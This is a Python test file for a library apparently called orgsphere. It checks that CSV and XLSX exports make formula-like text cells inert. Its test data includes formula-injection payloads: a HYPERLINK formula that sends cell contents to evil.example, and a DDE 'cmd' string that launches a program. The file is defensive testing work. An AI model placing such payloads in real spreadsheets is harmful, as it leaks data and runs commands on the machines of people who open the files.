"""Exports a spreadsheet opens run nothing: text cells that would be formulas are made inert."""

from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

import orgsphere
from orgsphere.spreadsheet import neutralise_formulas

from .conftest import write

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
    t = pa.table({"name": [*HOSTILE, "\tTab", "\rCR", "Sales", "a=b", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
    out = neutralise_formulas(t).to_pylist()
    assert [r["name"] for r in out] == [*(f"'{h}" for h in HOSTILE), "'\tTab", "'\rCR", "Sales", "a=b", None]
    assert [r["n"] for r in out] == [-1, 2, 3, 4, 5, 6, 7, 8, 9]  # numbers untouched, negative ones too


def test_a_unit_named_like_a_formula_is_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    units = ["Sales", HOSTILE[0]]
    org = "person,unit,parent,kind\n" + "".join(
        f'p{u}{i},"{name.replace(chr(34), chr(34) * 2)}",Acme,line\n' for u, name in enumerate(units) for i in range(3)
    )
    edges = "src,dst,ts,channel\n" + "".join(
        f"p{u}{i},p{1 - u}{i},2025-01-{10 + i},email\n" for u in range(2) for i in range(3)
    )
    with orgsphere.open(tmp_path / "s.duckdb", key_file=tmp_path / "k", min_group_size=1,
                        bootstrap_samples=50) as ws:  # fmt: skip
        ws.ingest_orgchart(write(tmp_path / "org.csv", org))
        ws.ingest_edges(write(tmp_path / "e.csv", edges))
        results = ws.analyse()
    assert HOSTILE[0] in results["sphere"].arrow["name"].to_pylist()  # the API keeps the real name
    results.export(tmp_path / "csv", "csv")
    results.export(tmp_path / "xlsx", "xlsx")
    results.export(tmp_path / "parquet", "parquet")
    names = pacsv.read_csv(tmp_path / "csv" / "sphere.csv")["name"].to_pylist()
    assert "'" + HOSTILE[0] in names and HOSTILE[0] not in names
    for path in (tmp_path / "csv").glob("*.csv"):
        for column in pacsv.read_csv(path).columns:
            if pa.types.is_string(column.type):
                assert not any(v and v[0] in "=+@\t\r" for v in column.to_pylist()), path.name
    formulas = []
    for path in (tmp_path / "xlsx").glob("*.xlsx"):
        for row in openpyxl.load_workbook(path).active.iter_rows():
            formulas += [(path.name, c.coordinate) for c in row if c.data_type == "f"]
            assert "'" + HOSTILE[0] in [c.value for c in row] or HOSTILE[0] not in [c.value for c in row]
    assert formulas == []
    assert HOSTILE[0] in pq.read_table(tmp_path / "parquet" / "sphere.parquet")["name"].to_pylist()
